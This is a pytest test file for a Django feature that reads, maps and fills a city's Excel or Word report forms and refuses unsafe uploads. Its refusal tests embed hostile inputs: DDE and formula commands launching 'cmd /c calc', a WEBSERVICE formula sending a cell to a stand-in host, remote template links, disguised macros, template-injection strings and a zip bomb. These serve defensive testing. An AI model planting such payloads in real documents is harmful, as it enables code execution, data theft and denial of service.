"""The city's own form, Excel or Word: its fields are read, what they hold is offered, and it is filled; what is no form is refused."""

import io
import uuid
import zipfile

import docx
import openpyxl
import pytest
import xlsxwriter
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from annual import own_forms
from annual.models import OwnForm, YearReport
from privacy.models import AccessEvent
from tests.annual.test_year_report import asked_for, plan  # noqa: F401  (a fixture)
from tests.cast import login

pytestmark = pytest.mark.django_db


def excel(*fields, merged=False, **more) -> bytes:
    made = io.BytesIO()
    with xlsxwriter.Workbook(made) as book:
        page = book.add_worksheet("様式 1")
        page.write(0, 0, "実績報告書")
        for row, field in enumerate(fields, 2):
            page.write(row, 0, field)
            if merged:
                page.merge_range(row, 1, row, 3, "")
            book.define_name(field, f"='様式 1'!$B${row + 1}" + (f":$D${row + 1}" if merged else ""))
        book.define_name("_印刷", "='様式 1'!$A$1")
        page.print_area("A1:C9")
    return made.getvalue()


def word(*texts, title="") -> bytes:
    made, document = io.BytesIO(), docx.Document()
    for text in texts:
        document.add_paragraph(text)
    document.core_properties.title = title
    document.save(made)
    return made.getvalue()


def upload(client, data, name="様式.xlsx", **more):
    fields = {"name": "市への報告", "document": SimpleUploadedFile(name, data), **more}
    return client.post(reverse("own_form_new"), fields, follow=True)


def test_an_excel_form_is_read_bound_and_filled(client, plan, manager):  # noqa: F811
    login(client, manager)
    report = asked_for(client)
    upload(client, excel("新規件数", "食堂_開催", "年度", merged=True))
    form = OwnForm.objects.get()
    # What is called alike is proposed.
    assert form.fields[0] == {"field": "新規件数", "code": "figure/consultation.new", "period": "year"}
    page = client.get(form.get_absolute_url()).content.decode()
    words = [line.split('"')[1] for line in page.split("<option ") if "地域食堂" in line]
    evening = next(one for one in words if "参加者" in one)
    answer = client.post(form.get_absolute_url(), {
        "what_0": "figure/consultation.new", "period_0": "year",
        "what_1": evening, "period_1": "m5", "what_2": "報告書について：年度", "period_2": "year",
    })  # fmt: skip
    assert answer.status_code == 303, answer.content.decode()
    answer = client.get(reverse("own_form_filled", args=[form.pk, report.pk]))
    page = openpyxl.load_workbook(io.BytesIO(answer.content)).active
    assert (page["A1"].value, page["B3"].value, page["B4"].value, page["B5"].value) == ("実績報告書", 15, 1, "令和7年度")


def test_another_file_under_the_same_key_is_another_form(client, plan, manager):  # noqa: F811
    login(client, manager)
    key, one, other = str(uuid.uuid4()), excel("新規件数"), excel("年度")
    for data in (one, one, other):
        upload(client, data, once=key)
    assert sorted(form.fields[0]["field"] for form in OwnForm.objects.all()) == ["年度", "新規件数"]


def test_a_word_form_is_filled_too(client, plan, manager):  # noqa: F811
    login(client, manager)
    report = asked_for(client)
    upload(client, word("今年度の新規は {{ 新規件数 }} 件でした。"), "様式.docx")
    form = OwnForm.objects.get()
    answer = client.get(reverse("own_form_filled", args=[form.pk, report.pk]))
    assert docx.Document(io.BytesIO(answer.content)).paragraphs[0].text == "今年度の新規は 15 件でした。"


def test_a_field_that_holds_nothing_the_report_has_is_named(client, plan, manager):  # noqa: F811
    login(client, manager)
    asked_for(client)
    upload(client, excel("名もなき数"))
    form = OwnForm.objects.get()
    answer = client.post(form.get_absolute_url(), {"what_0": "世界の人口", "period_0": "year"}, follow=True)
    page = answer.content.decode()
    assert "報告書にこの項目はありません" in page
    assert "世界の人口" in page


def test_words_that_begin_like_a_formula_stay_words(client, plan, manager):  # noqa: F811
    form = OwnForm(file=excel("備考"), format="xlsx")
    filled = openpyxl.load_workbook(io.BytesIO(own_forms.filled(form, {"備考": "=HYPERLINK(1)"})))
    assert (filled.active["B3"].value, filled.active["B3"].data_type) == ("=HYPERLINK(1)", "s")


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    made = io.BytesIO(data)
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr(name, content)
    return made.getvalue()


def changed(data: bytes, name: str, old: str, new: str) -> bytes:
    """The same file, one part of it written otherwise."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as before, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as after:
        for part in before.namelist():
            content = before.read(part)
            if part == name:
                assert old.encode() in content
                content = content.replace(old.encode(), new.encode())
            after.writestr(part, content)
    return made.getvalue()


SHEET, DOCUMENT, RELATIONS = "xl/worksheets/sheet1.xml", "word/document.xml", "word/_rels/document.xml.rels"
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def with_relation(kind: str, target="http://elsewhere.example/x", mode=' TargetMode="External"') -> bytes:
    relation = f'<Relationship Id="rId99" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    return changed(word("{{ name }}"), RELATIONS, "</Relationships>", relation)


def with_formula(formula: str) -> bytes:
    row = f'<row r="20"><c r="A20"><f>{formula}</f></c></row></sheetData>'
    return changed(excel("数"), SHEET, "</sheetData>", row)


def with_field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return changed(word("{{ name }}", "HERE"), DOCUMENT, "<w:r><w:t>HERE</w:t></w:r>", runs)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(with_relation(TEMPLATE), id="a template from elsewhere"),
        pytest.param(with_relation(TEMPLATE.replace("attachedTemplate", "image")), id="a picture from elsewhere"),
        pytest.param(
            with_relation("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "styles.xml", ""),
            id="macros under another name",
        ),
        pytest.param(with_field("DDE", 'AUTO "cmd" "/c calc"'), id="another program"),
        pytest.param(with_field('INCLUDEPICTURE "http://elsewhere.example/x"'), id="a picture that a field fetches"),
        pytest.param(with_formula("_xlfn.WEBSERVICE(&quot;http://elsewhere.example/&quot;&amp;B3)"), id="a formula that sends"),
        pytest.param(with_formula("cmd|'/c calc'!A0"), id="a formula that calls"),
        pytest.param(
            word("{{ name }}" * 100, "{{ name " * 50_000),
            id="brackets without end",
        ),
        pytest.param(
            changed(word("NOTHING {{ name }}"), DOCUMENT, "NOTHING", "&#123;&#123; range(99999999)|list &#125;&#125;"),
            id="a program in other letters",
        ),
        pytest.param(
            changed(word("{{ name }}", title="NOTHING"), "docProps/core.xml", "NOTHING", "&#123;% for n in range(9) %&#125;x&#123;% endfor %&#125;"),
            id="a program in other letters among the properties",
        ),
        pytest.param(
            changed(excel("数"), SHEET, "</sheetData>", '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
            id="all cells merged",
        ),
        pytest.param(
            changed(excel("数"), SHEET, "</sheetData>", '</sheetData><hyperlinks><hyperlink ref="A1:XFD1048576" location="a"/></hyperlinks>'),
            id="all cells linked",
        ),
    ],
)  # fmt: skip
def test_what_grows_runs_or_asks_elsewhere_is_refused(data):
    with pytest.raises(ValidationError):
        own_forms.read(data)


def test_a_link_and_a_reckoning_of_its_own_are_kept():
    hyperlink = TEMPLATE.replace("attachedTemplate", "hyperlink")
    assert own_forms.read(with_relation(hyperlink)) == ("docx", ["name"])
    assert own_forms.read(with_field('HYPERLINK "http://city.example/link"', " PAGE ")) == ("docx", ["name"])
    assert own_forms.read(with_formula("SUM(B3:B9)*IF(B3&gt;2,1,2)")) == ("xlsx", ["数"])


def test_a_field_that_names_the_middle_of_merged_cells_is_written_at_their_beginning():
    data = changed(excel("数", merged=True), "xl/workbook.xml", "$B$3:$D$3", "$C$3")
    assert own_forms.read(data) == ("xlsx", ["数"])
    filled = openpyxl.load_workbook(io.BytesIO(own_forms.filled(OwnForm(file=data, format="xlsx"), {"数": 7})))
    assert filled.active["B3"].value == 7


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"no file at all", id="no archive"),
        pytest.param(excel(), id="no field"),
        pytest.param(word("ことばだけ"), id="no word field"),
        pytest.param(with_part(excel("数"), "xl/vbaProject.bin", b"x"), id="macros"),
        pytest.param(with_part(excel("数"), "xl/bomb.xml", b"<a>" + b" " * 20_000_000 + b"</a>"), id="bomb"),
        pytest.param(word("{% for n in range(10) %}{{ n }}{% endfor %}"), id="a program"),
        pytest.param(word("{{ 'a' * 1000000000 }}"), id="a reckoning"),
        pytest.param(word("{{ name }}", title="{{ ''.__class__ }}"), id="a program among the properties"),
    ],
)
def test_what_is_no_form_is_refused(data):
    with pytest.raises(ValidationError):
        own_forms.read(data)


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "パスワード"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", ".doc"),
        (with_part(excel("数"), "xl/vbaProject.bin", b"x"), "マクロ"),
    ],
    ids=["password", "old", "macros"],
)
def test_the_refusal_says_what_to_do(data, said):
    with pytest.raises(ValidationError, match=said):
        own_forms.read(data)


def test_the_refusal_stands_at_the_field_and_the_name_stays(client, manager):
    login(client, manager)
    page = upload(client, b"no file").content.decode()
    assert "記入できるExcel" in page
    assert "市への報告" in page
    assert not OwnForm.objects.exists()


@pytest.mark.parametrize(("for_whom", "action"), [("office", "report.exact"), ("out", "report.public")])
def test_that_figures_were_taken_stands_in_the_ledger(client, plan, manager, for_whom, action):  # noqa: F811
    login(client, manager)
    report = asked_for(client, for_whom)
    form = OwnForm.objects.create(council=report.council, name="市へ", format="xlsx", file=excel("数"), taken_by=manager)
    for address in (
        reverse("year_report_file", args=[report.pk, "xlsx"]),
        reverse("own_form_filled", args=[form.pk, report.pk]),
    ):
        assert client.get(address).status_code == 200
    events = AccessEvent.objects.filter(kind="export").order_by("at")
    assert [(one.action, one.actor, one.model) for one in events] == [(action, manager.pk, "annual.YearReport")] * 2


def test_nobody_else_reaches_it(client, plan, manager, caseworker):  # noqa: F811
    login(client, manager)
    asked_for(client)
    upload(client, excel("新規件数"))
    form, report = OwnForm.objects.get(), YearReport.objects.get()
    login(client, caseworker)
    assert client.get(form.get_absolute_url()).status_code == 403
    assert client.get(reverse("own_form_filled", args=[form.pk, report.pk])).status_code == 403
